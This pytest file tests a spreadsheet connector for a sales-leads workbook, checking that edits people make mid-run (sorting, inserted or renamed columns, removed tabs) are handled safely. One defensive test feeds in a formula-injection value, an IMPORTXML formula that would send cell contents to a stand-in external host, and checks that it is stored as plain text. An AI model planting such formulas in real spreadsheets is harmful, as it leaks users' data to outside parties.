"""People sort, insert, move, rename and remove while the worker works; nothing lands in the wrong place."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

import pytest

from connectors.errors import WorkbookBroken
from connectors.ports import Committed
from leads.changes import CellChange, Change, Changes, SettingFlag
from tests.connectors.workbook.sites import StandinSite
from tests.connectors.workbook.test_workbook_contract import AT, filed, landed, lead, owner


def inserted(sheet: StandinSite, dimension: str, start: int, count: int = 1) -> None:
    place = {
        "sheetId": sheet.person.leads.id,
        "dimension": dimension,
        "startIndex": start,
        "endIndex": start + count,
    }
    sheet.person.request({"insertDimension": {"range": place, "inheritFromBefore": False}})


def renamed(sheet: StandinSite, heading: str, new: str) -> None:
    column = sheet.person.headings().index(heading) + 1
    sheet.person.leads.update_cell(1, column, new)


def test_rows_inserted_above_are_followed(sheet: StandinSite) -> None:
    landed(sheet, filed(lead(1001)), filed(lead(1002)))
    inserted(sheet, "ROWS", 1, 3)
    picture = landed(sheet, owner("L-1002", "", "Ana Keller"))

    assert [(one.lead_id, one.owner, one.row) for one in picture.leads] == [
        ("L-1001", "", 5),
        ("L-1002", "Ana Keller", 6),
    ]


def test_line_put_above_the_headings_is_followed(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()))
    inserted(sheet, "ROWS", 0)
    sheet.person.leads.update_cell(1, 1, "Our leads, please be kind")
    picture = landed(sheet, owner("L-1001", "", "Ana Keller"), filed(lead(1002)))

    assert [(one.lead_id, one.owner) for one in picture.leads] == [
        ("L-1001", "Ana Keller"),
        ("L-1002", ""),
    ]
    assert picture.typed_rows == ()


def test_moved_column_is_found_by_its_heading(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()))
    place = {
        "sheetId": sheet.person.leads.id,
        "dimension": "COLUMNS",
        "startIndex": 3,
        "endIndex": 4,
    }
    sheet.person.request({"moveDimension": {"source": place, "destinationIndex": 0}})
    picture = landed(sheet, owner("L-1001", "", "Ana Keller"), filed(lead(1002)))

    assert sheet.person.headings()[:2] == ["Owner", "Name"]
    assert [(one.name, one.owner) for one in picture.leads] == [
        ("Person 1001", "Ana Keller"),
        ("Person 1002", ""),
    ]


def test_peoples_own_column_is_carried_and_never_touched(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()))
    inserted(sheet, "COLUMNS", 2)
    sheet.person.leads.update([["Shoe size"], [44]], "C1", value_input_option="USER_ENTERED")
    picture = landed(sheet, owner("L-1001", "", "Ana Keller"), filed(lead(1002)))

    assert sheet.person.leads.get("C1:C3") == [["Shoe size"], ["44"]]
    assert [one.stage for one in picture.leads] == ["New", "New"]


def test_renamed_heading_is_followed_and_costs_one_search_once(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()))
    renamed(sheet, "Owner", "Rep")
    picture = landed(sheet, owner("L-1001", "", "Ana Keller"))
    before = sheet.workbook.reads
    sheet.workbook.read()

    assert picture.leads[0].owner == "Ana Keller"
    assert picture.missing == {}
    assert sheet.workbook.reads - before == 1


def test_removed_column_stops_its_own_writes_only(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()))
    sheet.person.leads.delete_columns(sheet.person.headings().index("Owner") + 1)
    stage = CellChange(
        lead_id="L-1001",
        attribute="stage",
        old="New",
        new="Contacted",
        because="a reply came",
        who="take_in_inquiries",
    )
    picture = landed(sheet, owner("L-1001", "", "Ana"), Change(cells=(stage,)), filed(lead(1002)))

    assert picture.missing == {"Leads": ("Owner",)}
    assert [one.stage for one in picture.leads] == ["Contacted", "New"]
    assert [event.what for event in picture.events] == ["filed", "Stage", "filed"]


def test_without_the_id_column_nothing_begins(sheet: StandinSite) -> None:
    sheet.person.leads.delete_columns(sheet.person.headings().index("ID") + 1)

    with pytest.raises(WorkbookBroken, match="column ID is not there"):
        sheet.workbook.read()


def test_renamed_tab_is_followed_by_a_running_and_by_a_new_worker(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()))
    sheet.person.leads.update_title("Customers")
    picture = landed(sheet, filed(lead(1002)))

    assert len(picture.leads) == 2
    assert len(sheet.open().read().leads) == 2


def test_removed_tab_is_named(sheet: StandinSite) -> None:
    sheet.workbook.read()
    sheet.person.book.del_worksheet(sheet.person.book.worksheet("History"))

    with pytest.raises(WorkbookBroken, match="tab History is not there"):
        sheet.workbook.read()


def test_removed_review_tab_does_not_stop_the_rest(sheet: StandinSite) -> None:
    sheet.workbook.read()
    sheet.person.book.del_worksheet(sheet.person.book.worksheet("Review"))
    picture = landed(sheet, filed(lead()))

    assert [one.lead_id for one in picture.leads] == ["L-1001"]
    assert "Review" in picture.missing


def test_words_under_a_date_are_nobodys_to_overwrite(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()))
    sheet.edit("L-1001", next_action="next week")
    change = CellChange(
        lead_id="L-1001",
        attribute="next_action",
        old=None,
        new=date(2027, 3, 8),
        because="the stage waits 7 days",
        who="remind",
    )
    picture = landed(sheet, Change(cells=(change,)))

    column = sheet.person.headings().index("Next action") + 1
    assert picture.leads[0].next_action is None
    assert sheet.person.leads.cell(2, column).value == "next week"


def test_date_typed_by_a_person_is_that_day(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()))
    sheet.edit("L-1001", next_action="2027-06-03")

    assert sheet.workbook.read().leads[0].next_action == date(2027, 6, 3)


def test_formula_from_a_stranger_stays_text(sheet: StandinSite) -> None:
    hostile = '=IMPORTXML("http://x.example/"&A1,"//a")'
    landed(sheet, filed(lead(name=hostile, company="+1+1", interest="@SUM(1)", phone="007")))
    row = sheet.person.leads.get("A2:I2", value_render_option="FORMULA")[0]
    entered = sheet.person.book.fetch_sheet_metadata(
        {
            "includeGridData": "true",
            "ranges": "Leads!A2:B2",
            "fields": "sheets.data.rowData.values.userEnteredValue",
        }
    )
    cells = entered["sheets"][0]["data"][0]["rowData"][0]["values"]

    assert [row[0], row[1], row[6], row[8]] == [hostile, "+1+1", "007", "@SUM(1)"]
    assert cells == [
        {"userEnteredValue": {"stringValue": hostile}},
        {"userEnteredValue": {"stringValue": "+1+1"}},
    ]


def test_times_show_in_the_spreadsheets_zone_and_are_the_same_instant(sheet: StandinSite) -> None:
    picture = landed(sheet, filed(lead()))
    column = sheet.person.headings().index("First contact") + 1

    assert picture.zone.key == "Europe/Berlin"
    assert picture.leads[0].first_contact == AT
    assert sheet.person.leads.cell(2, column).value == "1 Mar 2027 09:30"


def test_note_is_put_on_the_cell_and_an_existing_note_left_alone(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()), owner("L-1001", "", "Ana Keller", note="Territories row 2"))
    landed(sheet, owner("L-1001", "Ana Keller", "Ben Okoro"))

    assert sheet.person.leads.get_note("D2") == "Territories row 2"


def test_odd_setting_is_flagged_and_cleared_again(sheet: StandinSite) -> None:
    sheet.workbook.read()
    flag = SettingFlag(tab="Team", row=2, heading="Days", problem="“Mnday” is no day.")
    landed(sheet, Change(flags=(flag,)))
    team = sheet.person.book.worksheet("Team")

    assert team.get_note("F2") == "“Mnday” is no day."
    landed(sheet, Change(flags=(replace(flag, problem=""),)))
    assert not team.get_note("F2")


def test_history_row_tells_the_cell_that_was_written(sheet: StandinSite) -> None:
    landed(sheet, filed(lead()))
    landed(sheet, owner("L-1001", "", "Ana Keller"))
    rows = sheet.person.book.worksheet("History").get_all_values()

    assert rows[2][1:] == [
        "L-1001",
        "assign_owners",
        "Owner",
        "",
        "Ana Keller",
        "Territories row 2",
        "",
        "2",
        "Leads!D2",
    ]


def test_later_readings_ask_for_new_history_rows_alone(sheet: StandinSite) -> None:
    landed(sheet, filed(lead(1001)), filed(lead(1002)))
    sheet.app.requests.clear()
    picture = landed(sheet, filed(lead(1003)))
    asked = b"".join(sheet.bodies("batchGetByDataFilter"))

    assert b'"startRowIndex":2' in asked
    assert [event.lead_id for event in picture.events] == ["L-1001", "L-1002", "L-1003"]


def test_history_rows_that_somebody_removed_are_noticed(sheet: StandinSite) -> None:
    landed(sheet, filed(lead(1001)), filed(lead(1002)), filed(lead(1003)))
    sheet.person.book.worksheet("History").delete_rows(2)

    assert [event.lead_id for event in sheet.workbook.read().events] == ["L-1002", "L-1003"]


def test_history_that_somebody_cut_short_is_read_again_whole(sheet: StandinSite) -> None:
    landed(sheet, filed(lead(1001)), filed(lead(1002)), filed(lead(1003)))
    sheet.person.book.worksheet("History").resize(rows=2)

    assert [event.lead_id for event in sheet.workbook.read().events] == ["L-1001"]


def test_row_that_was_edited_or_moved_is_understood_anew(sheet: StandinSite) -> None:
    landed(sheet, filed(lead(1001, name="Zoe")), filed(lead(1002, name="Ann")))
    sheet.sort("name")
    sheet.edit("L-1001", comment="called")
    picture = sheet.workbook.read()

    assert [(one.name, one.row, one.comment) for one in picture.leads] == [
        ("Ann", 2, ""),
        ("Zoe", 3, "called"),
    ]


def test_forms_are_read_with_everything_else_or_from_their_own_spreadsheet(
    sheet: StandinSite,
) -> None:
    tab = sheet.person.book.add_worksheet("Form responses 1", 10, 5)
    rows: list[list[object]] = [
        ["Timestamp", "Name", "Name", ""],
        [46000.5, "Ann", "Lee", "x"],
        ["", "", ""],
        [46001, "Bo"],
    ]
    tab.update(rows, "A1", raw=True)
    workbook = sheet.open(
        forms=[
            ("web", "", "Form responses 1"),
            ("far", sheet.origin.spreadsheet_id, "Form responses 1"),
        ]
    )
    workbook.read()
    before = workbook.reads
    picture = workbook.read()

    assert workbook.reads - before == 2
    assert [(row.form, dict(row.answers)) for row in picture.form_rows[:2]] == [
        ("web", {"Timestamp": 46000.5, "Name": "Ann", "Name (3)": "Lee", "Column D": "x"}),
        ("web", {"Timestamp": 46001, "Name": "Bo", "Name (3)": None, "Column D": None}),
    ]
    assert len(picture.form_rows) == 4


def test_form_that_is_not_there_stops_nothing_else(sheet: StandinSite) -> None:
    workbook = sheet.open(forms=[("web", "", "Gone"), ("far", "no-such-id", "Gone too")])
    picture = workbook.read()

    assert picture.form_rows == ()
    assert set(picture.missing) == {"Gone", "Gone too"}


def test_link_opens_the_leads_tab(sheet: StandinSite) -> None:
    picture = sheet.open(link="http://127.0.0.1/sheet?gid={gid}").read()

    assert picture.url == f"http://127.0.0.1/sheet?gid={sheet.person.leads.id}"


def test_rows_are_added_with_their_formats_and_dropdowns_before_they_run_out(
    sheet: StandinSite,
) -> None:
    sheet.person.leads.resize(rows=3)
    landed(sheet, filed(lead(1001)), filed(lead(1002)), filed(lead(1003)), filed(lead(1004)))
    picture = landed(sheet, filed(lead(1005)))
    grid = sheet.person.book.fetch_sheet_metadata(
        {
            "includeGridData": "true",
            "ranges": "Leads!C6:E6",
            "fields": "sheets(properties(gridProperties(rowCount)),"
            "data.rowData.values(dataValidation,userEnteredFormat.numberFormat))",
        }
    )["sheets"][0]
    stage, _, due = grid["data"][0]["rowData"][0]["values"]

    assert len(picture.leads) == 5
    assert grid["properties"]["gridProperties"]["rowCount"] > 1000
    assert stage["dataValidation"]["condition"]["type"] == "ONE_OF_RANGE"
    assert due["userEnteredFormat"]["numberFormat"]["type"] == "DATE"


def test_commit_lands_although_somebody_sorts_in_the_same_second(sheet: StandinSite) -> None:
    landed(sheet, filed(lead(1001, name="Zoe")), filed(lead(1002, name="Ann")))
    picture = sheet.workbook.read()
    sheet.just_before_the_write(lambda: sheet.sort("name"))
    outcome = sheet.workbook.commit(Changes.of(filed(lead(1003))), picture)

    assert isinstance(outcome, Committed)
    assert [one.name for one in sheet.workbook.read().leads] == ["Ann", "Zoe", "Person 1003"]
